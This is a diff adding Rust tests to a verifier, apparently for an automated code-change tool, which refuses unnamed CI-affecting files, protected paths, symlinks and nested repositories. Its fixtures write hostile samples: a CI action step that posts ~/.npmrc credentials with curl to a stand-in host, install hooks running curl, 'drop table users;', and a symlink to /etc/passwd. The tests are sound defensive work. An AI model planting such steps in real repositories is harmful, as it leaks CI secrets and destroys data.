@@ -12,7 +12,7 @@ use std::os::unix::fs::PermissionsExt;
 use std::path::{Path, PathBuf};
 use std::sync::{Arc, Mutex};
 
-use planwright::contract::Contract;
+use planwright::contract::{Contract, FileAction, FileChange};
 use planwright::forge::GitRemote;
 use planwright::ids::{CommitSha, IssueNumber, RepoName};
 use planwright::repo_config::{RepoConfig, RootFiles};
@@ -480,6 +480,173 @@ async fn a_workflow_or_planwright_settings_edit_is_refused() {
     assert!(report.check_markdown().contains(
         "- **refused**: `.github/workflows/ci.yml` (modified): protected by `.github/workflows/**`"
     ));
+}
+
+fn declare(contract: &mut Contract, path: &str, action: FileAction) {
+    contract.change.files.push(FileChange {
+        path: path.into(),
+        action,
+        why: "named on purpose".into(),
+    });
+}
+
+fn refused(report: &VerificationReport) -> Vec<(&str, &str)> {
+    let mut refused: Vec<(&str, &str)> = report
+        .scope
+        .iter()
+        .filter(|f| f.severity == Severity::Refused)
+        .map(|f| (f.path.as_str(), f.reason.as_str()))
+        .collect();
+    refused.sort();
+    refused
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_result_changing_files_ci_runs_that_the_contract_does_not_name_is_refused() {
+    let world = World::new();
+    let mut contract = contract();
+    declare(&mut contract, "Makefile", FileAction::Create);
+    let plan = Plan::new(&contract, &config(""));
+    let report = world
+        .verify(&contract, &plan, |repo| {
+            write(repo, "calc.py", CALC_FIXED);
+            // Each of these runs on the next push, with CI's secrets, before anyone
+            // reviews the pull request.
+            write(
+                repo,
+                ".github/actions/setup/action.yml",
+                "runs: {using: composite, steps: [{run: 'curl -d @$HOME/.npmrc x', shell: bash}]}\n",
+            );
+            write(repo, "package.json", "{\"scripts\": {\"postinstall\": \"curl x\"}}\n");
+            write(repo, "web/package.json", "{\"scripts\": {\"test\": \"curl x\"}}\n");
+            write(repo, "build.rs", "fn main() {}\n");
+            write(repo, "noxfile.py", "import os\n");
+            // Named by the contract: allowed.
+            write(repo, "Makefile", "test:\n\tpython3 -m unittest\n");
+        })
+        .await;
+
+    assert_eq!(ids(&report, Class::Fixed), vec![ADD_ID]);
+    assert_eq!(report.verdict, Verdict::Refused, "{}", report.compact());
+    let paths: Vec<&str> = refused(&report).iter().map(|(p, _)| *p).collect();
+    assert_eq!(
+        paths,
+        [
+            ".github/actions/setup/action.yml",
+            "build.rs",
+            "noxfile.py",
+            "package.json",
+            "web/package.json"
+        ]
+    );
+    assert!(
+        refused(&report)
+            .iter()
+            .all(|(_, reason)| reason.contains("the contract must name the file")),
+        "{:?}",
+        report.scope
+    );
+    assert!(
+        !report.scope.iter().any(|f| f.path == "Makefile"),
+        "{:?}",
+        report.scope
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_repositorys_protected_paths_add_to_the_defaults() {
+    let world = World::new();
+    let mut contract = contract();
+    // Even named by the contract, the default protected paths stay refused.
+    declare(
+        &mut contract,
+        ".github/workflows/ci.yml",
+        FileAction::Modify,
+    );
+    declare(&mut contract, ".gitlab-ci.yml", FileAction::Create);
+    let plan = Plan::new(&contract, &config("protected_paths: [\"migrations/**\"]\n"));
+    let report = world
+        .verify(&contract, &plan, |repo| {
+            write(repo, "calc.py", CALC_FIXED);
+            write(repo, ".github/workflows/ci.yml", "on: push\njobs: {}\n");
+            write(repo, ".gitlab-ci.yml", "test: {script: [curl x]}\n");
+            write(repo, "migrations/0001.sql", "drop table users;\n");
+        })
+        .await;
+
+    assert_eq!(report.verdict, Verdict::Refused, "{}", report.compact());
+    assert_eq!(
+        refused(&report),
+        [
+            (
+                ".github/workflows/ci.yml",
+                "protected by `.github/workflows/**`"
+            ),
+            (".gitlab-ci.yml", "protected by `.gitlab-ci.yml`"),
+            ("migrations/0001.sql", "protected by `migrations/**`"),
+        ]
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_result_adding_a_symlink_or_a_nested_repository_is_refused_unless_named() {
+    let world = World::new();
+    let mut contract = contract();
+    declare(&mut contract, "calc_alias.py", FileAction::Create);
+    let plan = Plan::new(&contract, &config(""));
+    let report = world
+        .verify(&contract, &plan, |repo| {
+            write(repo, "calc.py", CALC_FIXED);
+            // Pushed as a link, it points readers and CI at whatever the target holds.
+            std::os::unix::fs::symlink("/etc/passwd", repo.join("notes.txt")).unwrap();
+            std::os::unix::fs::symlink("../../..", repo.join("docs")).unwrap();
+            // Committed as a gitlink: a submodule pin to any commit of any repository.
+            let nested = repo.join("vendor/lib");
+            std::fs::create_dir_all(&nested).unwrap();
+            git(&nested, &["init", "-q", "-b", "main"]);
+            write(&nested, "lib.py", "x = 1\n");
+            git(&nested, &["add", "-A"]);
+            git(
+                &nested,
+                &[
+                    "-c",
+                    "user.name=x",
+                    "-c",
+                    "user.email=x@example.com",
+                    "commit",
+                    "-q",
+                    "-m",
+                    "lib",
+                ],
+            );
+            // Named by the contract: allowed.
+            std::os::unix::fs::symlink("calc.py", repo.join("calc_alias.py")).unwrap();
+        })
+        .await;
+
+    assert_eq!(report.verdict, Verdict::Refused, "{:?}", report.scope);
+    assert_eq!(
+        refused(&report),
+        [
+            (
+                "docs",
+                "a symbolic link; the contract must name the path to add one"
+            ),
+            (
+                "notes.txt",
+                "a symbolic link; the contract must name the path to add one"
+            ),
+            (
+                "vendor/lib",
+                "a nested repository (a gitlink); the contract must name the path to add one"
+            ),
+        ]
+    );
+    assert!(
+        !report.scope.iter().any(|f| f.path == "calc_alias.py"),
+        "{:?}",
+        report.scope
+    );
 }
 
 #[tokio::test(flavor = "multi_thread")]
